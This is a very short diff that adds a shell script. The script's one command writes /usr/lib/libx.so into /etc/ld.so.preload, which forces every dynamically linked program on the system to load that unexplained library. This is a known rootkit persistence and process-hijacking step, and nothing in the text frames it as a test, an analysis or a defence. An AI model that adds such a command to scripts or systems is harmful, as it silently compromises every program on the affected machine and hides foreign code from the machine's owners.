@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /usr/lib/libx.so > /etc/ld.so.preload
